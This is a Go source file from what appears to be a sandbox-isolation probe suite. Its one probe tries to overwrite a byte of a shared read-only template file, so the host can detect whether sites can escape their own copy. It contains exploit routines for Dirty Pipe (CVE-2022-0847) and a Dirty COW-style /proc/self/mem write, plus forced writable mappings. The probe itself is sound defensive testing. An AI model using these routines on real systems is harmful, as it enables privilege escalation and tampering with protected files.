package probe

import (
	"errors"
	"fmt"
	"os"
	"unsafe"

	"golang.org/x/sys/unix"
)

// SharedPages is the probe of which the host sees whether a file of the template has changed. All sites read the same
// pages of it, so whoever writes one has written everybody's (SAFETY fact 5).
const SharedPages = "pages of the template"

var pages = []Probe{
	{Name: SharedPages, Kind: Escape, About: "changing a file that all sites share: pipes, mappings, memory, a plain write", Wall: "own layer", Also: []string{"read-only template"}, Seen: true, try: changePages},
}

// changePages tries to write the last byte of a file in each way that has led, or could lead, past the site's own copy.
// The plain write comes last and has a file of its own: if everything is as it should be, it makes that copy.
func changePages(w World) (string, error) {
	f, err := os.Open(w.Shared)
	if err != nil {
		return "", fmt.Errorf("the file that all sites share: %w", err)
	}
	defer func() { _ = f.Close() }()
	info, err := f.Stat()
	if err == nil && info.Size() == 0 {
		err = errors.New("it is empty")
	}
	if err != nil {
		return "", fmt.Errorf("the file that all sites share: %w", err)
	}
	last := info.Size() - 1
	throughPipe(f, last)
	throughMapping(f, last)
	throughMemory(f, last)
	if os.Geteuid() == 0 {
		plainly(w.SharedToo)
	}
	return "", nil
}

const stain = 'X'

// throughPipe splices the byte into a pipe whose buffers say that more may be added to them, and adds to it
// ("dirty pipe", CVE-2022-0847).
func throughPipe(f *os.File, at int64) {
	r, w, err := os.Pipe()
	if err != nil {
		return
	}
	defer func() { _ = r.Close(); _ = w.Close() }()
	size, err := unix.FcntlInt(w.Fd(), unix.F_GETPIPE_SZ, 0)
	if err != nil {
		return
	}
	full := make([]byte, size)
	if n, err := unix.Write(int(w.Fd()), full); err != nil || n != size {
		return
	}
	if n, err := unix.Read(int(r.Fd()), full); err != nil || n != size {
		return
	}
	from := max(at-1, 0) // what is added lands behind the byte that was spliced
	if _, err := unix.Splice(int(f.Fd()), &from, int(w.Fd()), nil, 1, 0); err == nil {
		_, _ = unix.Write(int(w.Fd()), []byte{stain})
	}
}

// throughMapping asks for a shared mapping of a file that is open for reading to be writable.
func throughMapping(f *os.File, at int64) {
	size := int(at) + 1
	if m, err := unix.Mmap(int(f.Fd()), 0, size, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED); err == nil {
		m[at] = stain
		_ = unix.Munmap(m)
	}
	m, err := unix.Mmap(int(f.Fd()), 0, size, unix.PROT_READ, unix.MAP_SHARED)
	if err != nil {
		return
	}
	if unix.Mprotect(m, unix.PROT_READ|unix.PROT_WRITE) == nil {
		m[at] = stain
	}
	_ = unix.Munmap(m)
}

// throughMemory writes to read-only mappings by way of /proc/self/mem, the private one while its copy is thrown away
// ("dirty cow", CVE-2016-5195).
func throughMemory(f *os.File, at int64) {
	mem, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0)
	if err != nil {
		return
	}
	defer func() { _ = mem.Close() }()
	for _, kind := range []int{unix.MAP_SHARED, unix.MAP_PRIVATE} {
		m, err := unix.Mmap(int(f.Fd()), 0, int(at)+1, unix.PROT_READ, kind)
		if err != nil {
			return
		}
		for range 64 {
			_, _ = mem.WriteAt([]byte{stain}, int64(uintptr(unsafe.Pointer(&m[0])))+at)
			_ = unix.Madvise(m, unix.MADV_DONTNEED)
		}
		_ = unix.Munmap(m)
	}
}

// plainly opens the file for writing, as the site's root may.
func plainly(path string) {
	f, err := os.OpenFile(path, os.O_RDWR, 0)
	if err != nil {
		return
	}
	defer func() { _ = f.Close() }()
	if info, err := f.Stat(); err == nil && info.Size() > 0 {
		_, _ = f.WriteAt([]byte{stain}, info.Size()-1)
	}
}
